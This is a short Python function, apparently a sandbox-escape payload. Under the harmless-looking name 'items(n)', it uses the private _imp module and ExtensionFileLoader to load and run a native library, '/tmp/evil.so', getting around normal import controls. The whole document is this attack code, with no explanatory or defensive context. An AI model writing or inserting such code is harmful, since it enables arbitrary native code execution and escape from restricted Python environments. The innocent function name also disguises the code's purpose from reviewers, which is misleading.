def items(n):
    from importlib.machinery import ExtensionFileLoader, ModuleSpec
    import _imp
    spec = ModuleSpec('evil', ExtensionFileLoader('evil', '/tmp/evil.so'), origin='/tmp/evil.so')
    return _imp.create_dynamic(spec)
